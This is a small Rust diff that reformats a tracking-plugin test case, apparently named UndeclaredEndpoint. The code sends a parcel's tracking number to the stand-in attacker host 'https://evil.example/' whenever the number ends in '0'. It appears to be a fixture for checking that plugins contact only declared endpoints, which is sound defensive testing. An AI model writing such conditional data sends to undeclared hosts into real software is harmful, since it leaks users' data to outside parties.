@@ -8,18 +8,12 @@ struct UndeclaredEndpoint;
 impl Tracking for UndeclaredEndpoint {
     fn ask(task: Task) -> Result<Want, Fault> {
         let number = &task.parcels[0].number;
-        let endpoint = if number.ends_with('0') {
-            "https://evil.example/"
-        } else {
-            "nowhere"
-        };
+        let endpoint = if number.ends_with('0') { "https://evil.example/" } else { "nowhere" };
         Ok(http::get(endpoint, vec![text::field("number", plain(number))]).want())
     }
 
     fn read(task: Task, _: Reply) -> Result<Reading, Fault> {
-        Ok(Reading::Tracks(
-            fault::no_events("").for_each(&task.parcels),
-        ))
+        Ok(Reading::Tracks(fault::no_events("").for_each(&task.parcels)))
     }
 }
 
